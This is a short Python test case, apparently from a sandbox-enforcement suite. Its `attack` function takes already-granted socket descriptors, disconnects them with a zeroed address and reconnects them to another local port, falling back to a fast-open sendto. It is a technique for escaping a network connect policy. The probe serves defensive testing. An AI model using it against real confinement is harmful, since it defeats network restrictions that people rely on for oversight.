# A connection that was granted is connected anew, to somebody else.
# after: connect
# source: own
# granted: connect
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
def attack(door, tcp, **_):
    opened = connect("127.0.0.1", int(door))
    address = (2).to_bytes(2, "little") + int(tcp).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    nobody = bytes(16)
    for number in range(3, 24):
        libc.connect(number, nobody, 16)
        if libc.connect(number, address, 16) == 0 or ctypes.get_errno() == 115:
            return {"n": number}
        last = ctypes.get_errno()
        libc.sendto(number, b"!", 1, 0x20000000, address, 16)
    raise OSError(1 if last == 9 else last, "connect")
